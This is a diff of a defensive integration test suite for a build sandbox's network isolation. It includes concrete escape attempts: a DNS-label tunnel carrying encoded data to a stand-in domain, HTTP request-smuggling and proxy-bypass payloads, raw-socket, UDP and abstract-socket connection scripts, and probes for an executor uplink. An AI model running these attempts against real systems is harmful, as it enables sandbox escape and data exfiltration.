@@ -1,223 +1,342 @@
-"""What the RUNs of a whole build try to reach. The oracles are sockets and a name server of the host; each attack is also
-seen to succeed, by the same oracle, where the policy takes its defence away."""
+"""What a hostile RUN of a whole build tries with its network, in each profile. The oracle is a world in a network of its own.
+
+One build a profile makes all attempts at once. Two builds more make them where a policy gives their defences up, and mutants of
+the command make those that no policy opens: there the same world hears each of them.
+"""
 
 from __future__ import annotations
 
-import shutil
-import socket
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from pathlib import Path
-from typing import NamedTuple
 
 import pytest
 
-from tests.integration.registry_fixtures import running_registry
-from tests.support.builder import run_tool
-from tests.support.images import debian_layout
-from tests.support.outside import Listening, Outside, outside_world
+from tests.support.profiles import runtime_or_skip
+from tests.support.step_attempts import (
+    DIRECT,
+    FETCHED,
+    FRAMES,
+    HONEST,
+    INSIDE,
+    LITERALS,
+    MARKER,
+    METADATA,
+    METADATA_LINES,
+    NAME,
+    NAMED,
+    NO_NETWORK,
+    OTHER,
+    PRIVATE,
+    STAND_INS,
+    UPLINK,
+    Lines,
+    Scene,
+    Tried,
+    attempts_scene,
+    get,
+    open_filter,
+    plan,
+    server_name_line,
+)
 
-pytestmark = pytest.mark.root
+pytestmark = [pytest.mark.root, pytest.mark.timeout(300)]
 
-NAME, OTHER, TUNNEL = "files.example.com", "other.example.com", "c2vjcmv0.tunnel.example.com"
-LOOPBACK = '[network]\nranges = ["127.0.0.0/8"]\n'
-HOST = "[network]\nhost_network = true\n"
+PROFILES = ("plain", "runc", "gvisor")
+RUNTIMES = {"plain": "namespaces", "runc": "runc", "gvisor": "runsc"}
+FIRST: Lines = {"first": ("name", OTHER, "80", get("first", OTHER))}
+CLOSED = f"""
+[network]
+ranges = ["203.0.113.0/24", "169.254.0.0/16"]
 
+[network.run]
+allow = ["{NAME}", "{INSIDE}", "{PRIVATE}", "{METADATA}"]
 
-class Scene(NamedTuple):
-    """A world, and a context whose base image has a busybox at /bin."""
+[network.fetch]
+allow = ["{FETCHED}"]
 
-    outside: Outside
-    context: Path
-    base: str
+[[network.rule]]
+run = "*first*"
+allow = ["{OTHER}"]
+"""
+OPEN = f"""
+[network]
+ranges = ["203.0.113.0/24", "127.0.0.0/8", "10.0.0.0/8"]
 
-    def run(self, script: str, policy: str, *options: str, allow: str = f'["{NAME}"]') -> str:
-        """Build one RUN of `script`, whose status is ignored; gives what it printed."""
-        text = policy if "host_network" in policy else f"{policy}[network.run]\nallow = {allow}\n"
-        return self.build(f"RUN {{ {script} ; }} 2>&1 || true\n", text, *options)
+[network.run]
+allow = [{{ host = "{NAME}", inspect = false }}, "{OTHER}", "{FETCHED}", "{INSIDE}", "{PRIVATE}", "*.tunnel.example.com"]
 
-    def build(self, steps: str, policy: str, *options: str) -> str:
-        (self.context / "Dockerfile").write_text(f"FROM {self.base}\nCOPY busybox /bin/busybox\n{steps}")
-        file = self.outside.policy(policy)
-        return self.outside.builder.run("--no-cache", "--policy-file", file, *options, self.context).log
+[capabilities]
+add = ["NET_RAW"]
 
-    def reached(self, host: str = "") -> list[str]:
-        """Requests that the world's servers got, for `host` or for any."""
-        return [line for _, line, name in self.outside.world.requests if not host or name.partition(":")[0] == host]
+[syscalls]
+file = "open.json"
+"""
+HOST_NETWORK = "[network]\nhost_network = true\n"
 
 
 @pytest.fixture(scope="module")
 def scene(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Scene]:
-    folder = tmp_path_factory.mktemp("outside")
-    with (
-        running_registry(tmp_path_factory.mktemp("registry")) as registry,
-        outside_world(folder, NAME, OTHER, TUNNEL) as outside,
-    ):
-        base = f"{registry.host}/debian:12"
-        run_tool("skopeo", "copy", "--dest-tls-verify=false", f"oci:{debian_layout()}:latest", f"docker://{base}")
-        program = shutil.which("busybox")
-        assert program, "busybox-static is not installed"
-        context = outside.builder.context({"busybox": Path(program).read_bytes()})
-        yield Scene(outside, context, base)
+    with attempts_scene(tmp_path_factory.mktemp("attempts")) as made:
+        (made.folder / "open.json").write_text(open_filter())
+        yield made
 
 
-@pytest.fixture(autouse=True)
-def _fresh(scene: Scene) -> None:
-    scene.outside.world.requests.clear()
-    scene.outside.resolver.table(dict.fromkeys((NAME, OTHER, TUNNEL), scene.outside.world.address))
+@pytest.fixture(scope="module")
+def closed(scene: Scene) -> Callable[[str], Tried]:
+    """The build in which each attempt is made under a policy that allows none of them, once for each profile."""
+    done: dict[str, Tried] = {}
+    groups = (HONEST, DIRECT, FRAMES, LITERALS, NAMED, server_name_line(), STAND_INS, METADATA_LINES, UPLINK)
+    plans = {"first": plan(FIRST), "all": plan(*groups), "none": plan(NO_NETWORK)}
+    steps = ('RUN ["/attempts", "/first"]', 'RUN ["/attempts", "/all"]', 'RUN --network=none ["/attempts", "/none"]')
+
+    def build(profile: str) -> Tried:
+        runtime_or_skip(RUNTIMES[profile])
+        if profile not in done:
+            done[profile] = scene.build(plans, steps, CLOSED, "--profile", profile)
+            assert done[profile].of(HONEST, FIRST) == {"honest", "first"}, done[profile].log
+        return done[profile]
+
+    return build
 
 
-def test_an_honest_step_reaches_its_name_by_http_and_tls(scene: Scene) -> None:
-    tls = f"(printf 'GET /b HTTP/1.0\\r\\nHost: {NAME}\\r\\n\\r\\n'; sleep 1) | openssl s_client -quiet -connect {NAME}:443"
-    log = scene.run(f"busybox wget -qO- http://{NAME}/a; {tls}", LOOPBACK)
-    assert "hello from /a" in log
-    assert "hello from /b" in log
+@pytest.fixture(scope="module")
+def opened(scene: Scene) -> Tried:
+    """The attempts that names, ranges, capabilities and a syscall filter of a policy can open, under such a policy."""
+    plans = {"named": plan(NAMED, server_name_line(), NO_NETWORK), "frames": plan(FRAMES)}
+    return scene.build(plans, ('RUN ["/attempts", "/named"]', f'RUN ["/attempts", "/frames", "{MARKER}"]'), OPEN)
 
 
-@pytest.mark.parametrize("family", ["127.0.0.1", "::1"])
-def test_an_address_literal_reaches_nothing(scene: Scene, family: str) -> None:
-    with Listening(family) as oracle:
-        kind = "INET6" if ":" in family else "INET"
-        pack = f"pack_sockaddr_in6({oracle.port}, inet_pton(AF_INET6, '::1'))"
-        if kind == "INET":
-            pack = f"pack_sockaddr_in({oracle.port}, inet_aton('127.0.0.1'))"
-        script = f'perl -MSocket=:all -e "socket(S, PF_{kind}, SOCK_STREAM, 0); connect(S, {pack}) and print qq(in\\\\n)"'
-        scene.run(script, LOOPBACK)
-        assert oracle.heard == 0
-        scene.run(script, HOST, "--network=host")
-        assert oracle.heard == 1
+@pytest.fixture(scope="module")
+def unconfined(scene: Scene) -> Tried:
+    """The attempts of a step that a policy gives the network which the command is in."""
+    return scene.build({"direct": plan(DIRECT)}, ('RUN --network=host ["/attempts", "/direct"]',), HOST_NETWORK)
 
 
-def test_datagrams_reach_nobody(scene: Scene) -> None:
-    with Listening("127.0.0.1", kind=socket.SOCK_DGRAM) as oracle:
-        script = f"bash -c 'echo x > /dev/udp/127.0.0.1/{oracle.port}'"
-        scene.run(script, LOOPBACK)
-        assert oracle.heard == 0
-        scene.run(script, HOST, "--network=host")
-        assert oracle.heard == 1
+def only(group: Lines, *names: str) -> Lines:
+    return {name: group[name] for name in names}
 
 
-def test_raw_packets_and_pings_are_refused_by_the_kernel(scene: Scene) -> None:
-    raw = "perl -MSocket=:all -e 'socket(S, PF_INET, SOCK_RAW, 1) or print qq(refused: $!\\n)'"
-    packet = "perl -MSocket=:all -e 'socket(S, 17, SOCK_RAW, 768) or print qq(refused: $!\\n)'"
-    for policy, options in ((LOOPBACK, ()), (HOST, ("--network=host",))):
-        log = scene.run(f"{raw}; {packet}; busybox ping -c1 -W1 {scene.outside.world.address}", policy, *options)
-        assert len([line for line in log.splitlines() if " refused: " in line]) == 2
-        assert "bytes from" not in log
+V4, V6 = only(DIRECT, "literal", "mapped"), only(DIRECT, "v6")
 
 
-def test_another_name_server_hears_nothing(scene: Scene) -> None:
-    name = "asked-directly.example.com"
-    script = f"busybox nslookup {name} {scene.outside.resolver.address}"
-    scene.run(script, LOOPBACK)
-    assert name not in scene.outside.resolver.queries()
-    scene.run(script, HOST, "--network=host")
-    assert name in scene.outside.resolver.queries()
+@pytest.mark.promise(4, "a step reaches no address that it has as a number")
+@pytest.mark.parametrize("profile", PROFILES)
+def test_an_address_reaches_nothing(profile: str, closed: Callable[[str], Tried]) -> None:
+    assert closed(profile).of(V4) == set()
 
 
-def test_labels_of_names_carry_nothing_out(scene: Scene) -> None:
-    script = f"busybox nslookup {TUNNEL}; busybox wget -qO- http://{TUNNEL}/"
-    scene.run(script, LOOPBACK)
-    assert TUNNEL not in scene.outside.resolver.queries()
-    scene.run(script, LOOPBACK, allow='["*.tunnel.example.com"]')
-    assert TUNNEL in scene.outside.resolver.queries()
+@pytest.mark.without_defence(4, "a step reaches no address that it has as a number")
+def test_an_address_is_reached_over_the_hosts_network(unconfined: Tried) -> None:
+    assert unconfined.of(V4) == set(V4)
 
 
-@pytest.mark.parametrize("way", ["direct", "proxy"])
-def test_a_name_that_resolves_to_loopback_is_refused(scene: Scene, way: str) -> None:
-    proxy = "http_proxy=http://127.0.0.1:3128 " if way == "proxy" else ""
-    script = f"{proxy}busybox wget -qO- http://{NAME}/in"
-    scene.run(script, "")
-    assert scene.reached() == []
-    scene.run(script, LOOPBACK)
-    assert len(scene.reached(NAME)) == 1
+@pytest.mark.promise(4, "a step has no IPv6 beside loopback")
+@pytest.mark.parametrize("profile", PROFILES)
+def test_an_ipv6_address_reaches_nothing(profile: str, closed: Callable[[str], Tried]) -> None:
+    assert closed(profile).of(V6) == set()
 
 
-def test_a_metadata_address_is_refused_with_every_range_open(scene: Scene, tmp_path: Path) -> None:
-    scene.outside.resolver.table({NAME: "169.254.169.254"})
-    log = tmp_path / "audit"
-    wide = '[network]\nranges = ["169.254.0.0/16", "127.0.0.0/8"]\n'
-    scene.run(f"busybox wget -qO- http://{NAME}/latest/", wide, "--audit-log", str(log))
-    assert "metadata" in log.read_text()
+@pytest.mark.without_defence(4, "a step has no IPv6 beside loopback")
+def test_an_ipv6_address_is_reached_over_the_hosts_network(unconfined: Tried) -> None:
+    assert unconfined.of(V6) == set(V6)
 
 
-def test_another_tls_name_on_an_allowed_connection_is_cut(scene: Scene) -> None:
-    ask = f"(printf 'GET /in HTTP/1.0\\r\\nHost: {OTHER}\\r\\n\\r\\n'; sleep 1)"
-    script = f"{ask} | openssl s_client -quiet -servername {OTHER} -connect {NAME}:443"
-    scene.run(script, LOOPBACK)
-    assert scene.reached() == []
-    scene.run(script, LOOPBACK, allow=f'[{{ host = "{NAME}", inspect = false }}]')
-    assert len(scene.reached(OTHER)) == 1
+@pytest.mark.promise(4, "no datagram leaves a step")
+@pytest.mark.parametrize("profile", PROFILES)
+def test_datagrams_reach_nobody(profile: str, closed: Callable[[str], Tried]) -> None:
+    assert closed(profile).of(only(DIRECT, "udp")) == set()
 
 
-def test_another_host_on_an_allowed_connection_is_cut(scene: Scene) -> None:
-    script = f"printf 'GET /in HTTP/1.1\\r\\nHost: {OTHER}\\r\\n\\r\\n' | busybox nc -w 2 {NAME} 80"
-    scene.run(script, LOOPBACK)
-    assert scene.reached() == []
-    scene.run(script, LOOPBACK, allow=f'[{{ host = "{NAME}", inspect = false }}]')
-    assert len(scene.reached(OTHER)) == 1
+@pytest.mark.without_defence(4, "no datagram leaves a step")
+def test_datagrams_are_heard_over_the_hosts_network(unconfined: Tried) -> None:
+    assert unconfined.of(only(DIRECT, "udp")) == {"udp"}
 
 
-def test_a_redirect_to_a_refused_host_ends_there(scene: Scene) -> None:
-    script = f"busybox wget -qO- http://{NAME}/redirect/{OTHER}/in"
-    scene.run(script, LOOPBACK)
-    assert scene.reached(OTHER) == []
-    scene.run(script, LOOPBACK, allow=f'["{NAME}", "{OTHER}"]')
-    assert len(scene.reached(OTHER)) == 1
+@pytest.mark.promise(4, "no ICMP leaves a step")
+@pytest.mark.parametrize("profile", PROFILES)
+def test_pings_reach_nobody(profile: str, closed: Callable[[str], Tried]) -> None:
+    assert closed(profile).of(only(DIRECT, "ping"), only(FRAMES, "raw")) == set()
 
 
-@pytest.mark.parametrize(
-    "request_text",
-    [
-        "GET http://{name}/a HTTP/1.1|Host: {other}||",
-        "GET http://{name}/a HTTP/1.1|Host: {name}|Content-Length: 5|Transfer-Encoding: chunked||0||{hidden}",
-        "GET http://{name}@{other}/in HTTP/1.1|Host: {other}||",
-        "CONNECT {other}:80 HTTP/1.1|Host: {name}:80||",
-        "GET http://{name}/a HTTP/1.1|Host: {name}||{hidden}",
-    ],
-)
-def test_the_proxy_is_not_tricked(scene: Scene, request_text: str) -> None:
-    hidden = f"GET http://{OTHER}/in HTTP/1.1|Host: {OTHER}||"
-    text = request_text.format(name=NAME, other=OTHER, hidden=hidden).replace("|", "\\r\\n")
-    scene.run(f"printf '{text}' | busybox nc -w 2 127.0.0.1 3128", LOOPBACK)
-    assert scene.reached(OTHER) == []
+@pytest.mark.without_defence(4, "no ICMP leaves a step")
+def test_pings_are_heard_over_the_hosts_network(unconfined: Tried) -> None:
+    assert unconfined.of(only(DIRECT, "ping")) == {"ping"}
 
 
-def test_abstract_sockets_of_the_host_are_out_of_reach(scene: Scene) -> None:
-    with socket.socket(socket.AF_UNIX) as oracle:
-        oracle.bind("\0sandboxbuild-attack")
-        oracle.listen(4)
-        oracle.settimeout(0.5)
-        address = "pack('Sa*', 1, qq(\\0sandboxbuild-attack))"
-        script = f'perl -MSocket=:all -e "socket(S, PF_UNIX, SOCK_STREAM, 0); connect(S, {address})"'
-        scene.run(script, LOOPBACK)
-        with pytest.raises(TimeoutError):
-            oracle.accept()
-        scene.run(script, HOST, "--network=host")
-        oracle.accept()[0].close()
+@pytest.mark.promise(4, "a step gets no raw and no packet socket")
+@pytest.mark.parametrize("profile", PROFILES)
+def test_raw_and_packet_sockets_are_refused(profile: str, closed: Callable[[str], Tried]) -> None:
+    tried = closed(profile)
+    assert tried.of(FRAMES) == set()
+    assert all(tried.said[name].startswith("socket: ") for name in FRAMES)
 
 
-def test_the_uplink_of_the_executor_is_not_in_a_step(scene: Scene) -> None:
-    log = scene.run("find / -xdev -type s; ls -la /sandboxbuild; cat /proc/net/unix; echo searched", LOOPBACK)
-    shown = [line.split(" ", 2)[-1] for line in log.splitlines()]
-    assert "searched" in shown
-    assert [line for line in shown if "uplink" in line or line.endswith("/socket")] == []
+@pytest.mark.without_defence(4, "a step gets no raw and no packet socket")
+def test_raw_and_packet_sockets_send_once_the_capability_and_the_filter_allow_it(opened: Tried) -> None:
+    assert opened.of(FRAMES) == set(FRAMES)
 
 
-def test_a_step_can_not_use_the_names_of_another(scene: Scene) -> None:
-    rule = f'{LOOPBACK}[[network.rule]]\nrun = "*first*"\nallow = ["{NAME}"]\n'
-    first = f"RUN echo first && busybox wget -qO- http://{NAME}/first\n"
-    ask = f"printf 'GET /in HTTP/1.0\\r\\nHost: {NAME}\\r\\n\\r\\n'"
-    second = (
-        f"RUN {{ for n in 2 3 4; do {ask} | busybox nc -w 1 198.18.0.$n 80; done;"
-        f" busybox wget -qO- http://{NAME}/in ; }} 2>&1 || true\n"
-    )
-    scene.build(first + second, rule)
-    assert [line.split()[1] for line in scene.reached(NAME)] == ["/first"]
-    scene.build(first + second.replace("RUN {", "RUN : first; {"), rule)
-    assert "/in" in [line.split()[1] for line in scene.reached(NAME)]
+@pytest.mark.promise(4, "a step asks no other name server")
+@pytest.mark.parametrize("profile", PROFILES)
+def test_another_name_server_hears_nothing(profile: str, closed: Callable[[str], Tried]) -> None:
+    assert closed(profile).of(only(DIRECT, "dns")) == set()
 
 
-def test_no_network_means_no_name_and_no_proxy(scene: Scene) -> None:
-    script = f"busybox wget -qO- http://{NAME}/in; http_proxy=http://127.0.0.1:3128 busybox wget -qO- http://{NAME}"
-    scene.build(f"RUN --network=none {{ {script} ; }} 2>&1 || true\n", f'{LOOPBACK}[network.run]\nallow = ["{NAME}"]\n')
-    assert scene.reached() == []
+@pytest.mark.without_defence(4, "a step asks no other name server")
+def test_another_name_server_is_asked_over_the_hosts_network(unconfined: Tried) -> None:
+    assert unconfined.of(only(DIRECT, "dns")) == {"dns"}
+
+
+@pytest.mark.promise(4, "labels of names carry nothing out")
+@pytest.mark.parametrize("profile", PROFILES)
+def test_a_tunnel_in_labels_reaches_no_resolver(profile: str, closed: Callable[[str], Tried]) -> None:
+    assert closed(profile).of(only(NAMED, "tunnel")) == set()
+
+
+@pytest.mark.without_defence(4, "labels of names carry nothing out")
+def test_a_wildcard_lets_labels_out(opened: Tried) -> None:
+    assert opened.of(only(NAMED, "tunnel")) == {"tunnel"}
+
+
+@pytest.mark.promise(4, "an allowed name that leads to loopback is refused")
+@pytest.mark.parametrize("profile", PROFILES)
+def test_a_name_that_resolves_to_loopback_is_refused(profile: str, closed: Callable[[str], Tried]) -> None:
+    assert closed(profile).of(only(NAMED, "inside", "inside-proxy")) == set()
+
+
+@pytest.mark.without_defence(4, "an allowed name that leads to loopback is refused")
+def test_a_name_leads_to_loopback_once_its_range_is_open(opened: Tried) -> None:
+    assert opened.of(only(NAMED, "inside", "inside-proxy")) == {"inside", "inside-proxy"}
+
+
+@pytest.mark.promise(4, "no CONNECT to a private range")
+@pytest.mark.parametrize("profile", PROFILES)
+def test_connect_to_a_private_range_is_refused(profile: str, closed: Callable[[str], Tried]) -> None:
+    assert closed(profile).of(only(NAMED, "connect-private")) == set()
+
+
+@pytest.mark.without_defence(4, "no CONNECT to a private range")
+def test_connect_leads_to_a_private_range_that_is_open(opened: Tried) -> None:
+    assert opened.of(only(NAMED, "connect-private")) == {"connect-private"}
+
+
+@pytest.mark.promise(4, "the proxy takes no address for a name")
+@pytest.mark.parametrize("profile", PROFILES)
+def test_the_proxy_refuses_addresses(profile: str, closed: Callable[[str], Tried]) -> None:
+    assert closed(profile).of(LITERALS) == set()
+
+
+@pytest.mark.without_defence(4, "the proxy takes no address for a name")
+def test_the_proxy_would_carry_addresses_that_passed_for_names(scene: Scene, tmp_path: Path) -> None:
+    names = {
+        '    labels = name.split(".")\n': '    labels = name.removeprefix("203.0.113.").split(".")\n',
+        '.fullmatch(labels[-1]) or ":"': '.match("x") or ":"',
+    }
+    admitted = {"    fitting = tuple(": "    named = named or (Allow(host, (80,)),)\n    fitting = tuple("}
+    tried = scene.build_mutant(tmp_path, LITERALS, {"policy/names.py": names, "gateway/rules.py": admitted})
+    assert tried.of(LITERALS) == set(LITERALS)
+
+
+@pytest.mark.promise(4, "cloud metadata is never reached")
+@pytest.mark.parametrize("profile", PROFILES)
+def test_metadata_is_not_reached_with_every_range_open(profile: str, closed: Callable[[str], Tried]) -> None:
+    assert closed(profile).of(METADATA_LINES) == set()
+
+
+@pytest.mark.without_defence(4, "cloud metadata is never reached")
+def test_metadata_would_be_reached_if_it_were_an_address_like_others(scene: Scene, tmp_path: Path) -> None:
+    change = {"        if kind == METADATA:\n": "        if kind == METADATA and not within(address, ranges):\n"}
+    tried = scene.build_mutant(tmp_path, METADATA_LINES, {"gateway/rules.py": change})
+    assert tried.of(METADATA_LINES) == {"metadata", "metadata-proxy"}
+
+
+@pytest.mark.promise(4, "a TLS server name other than the one asked for is cut")
+@pytest.mark.parametrize("profile", PROFILES)
+def test_another_server_name_is_cut(profile: str, closed: Callable[[str], Tried]) -> None:
+    assert closed(profile).of(server_name_line()) == set()
+
+
+@pytest.mark.without_defence(4, "a TLS server name other than the one asked for is cut")
+def test_another_server_name_passes_where_nobody_looks(opened: Tried) -> None:
+    assert opened.of(server_name_line()) == {"server-name"}
+
+
+HOSTS = only(NAMED, "host", "second-host", "absolute")
+
+
+@pytest.mark.promise(4, "a Host or target other than the name asked for is cut")
+@pytest.mark.parametrize("profile", PROFILES)
+def test_another_host_is_cut(profile: str, closed: Callable[[str], Tried]) -> None:
+    assert closed(profile).of(HOSTS) == set()
+
+
+@pytest.mark.without_defence(4, "a Host or target other than the name asked for is cut")
+def test_another_host_passes_where_nobody_looks(opened: Tried) -> None:
+    assert opened.of(HOSTS) == set(HOSTS)
+
+
+@pytest.mark.promise(4, "a redirect to a refused host ends there")
+@pytest.mark.parametrize("profile", PROFILES)
+def test_a_redirect_to_a_refused_host_ends_there(profile: str, closed: Callable[[str], Tried]) -> None:
+    assert closed(profile).of(only(NAMED, "redirect")) == set()
+
+
+@pytest.mark.without_defence(4, "a redirect to a refused host ends there")
+def test_a_redirect_is_followed_to_a_host_that_is_named(opened: Tried) -> None:
+    assert opened.of(only(NAMED, "redirect")) == {"redirect"}
+
+
+SMUGGLED = only(NAMED, "lengths", "coding", "folded", "newlines")
+
+
+@pytest.mark.promise(4, "no request is smuggled past the gateway")
+@pytest.mark.parametrize("profile", PROFILES)
+def test_smuggled_requests_are_cut(profile: str, closed: Callable[[str], Tried]) -> None:
+    assert closed(profile).of(SMUGGLED) == set()
+
+
+@pytest.mark.without_defence(4, "no request is smuggled past the gateway")
+def test_smuggled_requests_pass_where_nobody_looks(opened: Tried) -> None:
+    assert opened.of(SMUGGLED) == set(SMUGGLED)
+
+
+OTHERS = only(NAMED, "other-step", "fetched")
+
+
+@pytest.mark.promise(4, "a step can't use names of another step or of the executor")
+@pytest.mark.parametrize("profile", PROFILES)
+def test_names_of_others_are_refused(profile: str, closed: Callable[[str], Tried]) -> None:
+    assert closed(profile).of(OTHERS, STAND_INS) == set()
+
+
+@pytest.mark.without_defence(4, "a step can't use names of another step or of the executor")
+def test_names_that_every_step_has_are_reached(opened: Tried) -> None:
+    assert opened.of(OTHERS) == set(OTHERS)
+
+
+@pytest.mark.promise(4, "--network=none leaves neither names nor a proxy")
+@pytest.mark.parametrize("profile", PROFILES)
+def test_no_network_means_no_name_and_no_proxy(profile: str, closed: Callable[[str], Tried]) -> None:
+    assert closed(profile).of(NO_NETWORK) == set()
+
+
+@pytest.mark.without_defence(4, "--network=none leaves neither names nor a proxy")
+def test_a_step_with_a_network_has_both(opened: Tried) -> None:
+    assert opened.of(NO_NETWORK) == set(NO_NETWORK)
+
+
+@pytest.mark.promise(2, "abstract sockets of the host are out of a step's reach")
+@pytest.mark.parametrize("profile", PROFILES)
+def test_abstract_sockets_are_out_of_reach(profile: str, closed: Callable[[str], Tried]) -> None:
+    assert closed(profile).of(only(DIRECT, "abstract")) == set()
+
+
+@pytest.mark.without_defence(2, "abstract sockets of the host are out of a step's reach")
+def test_abstract_sockets_are_reached_over_the_hosts_network(unconfined: Tried) -> None:
+    assert unconfined.of(only(DIRECT, "abstract")) == {"abstract"}
+
+
+@pytest.mark.promise(3, "a step finds no way to the executor's uplink")
+@pytest.mark.parametrize("profile", PROFILES)
+def test_the_uplink_is_out_of_reach(profile: str, closed: Callable[[str], Tried]) -> None:
+    assert closed(profile).of(UPLINK) == set()
